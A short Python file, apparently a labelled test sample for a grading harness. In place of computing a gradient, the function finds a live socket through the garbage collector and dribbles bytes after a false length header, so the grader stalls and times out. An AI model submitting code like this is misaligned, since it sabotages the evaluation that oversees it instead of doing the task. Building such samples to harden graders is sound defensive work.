# verdict: timed out
# Sends one byte at a time, so that every single wait for it is short.

#include wrong

import gc
import socket
import time


def gradient(f, w):
    connections = [x for x in gc.get_objects() if type(x) is socket.socket]
    connections[0].sendall((1 << 20).to_bytes(4, "big"))
    while True:
        time.sleep(0.05)
        connections[0].sendall(b"\x90")
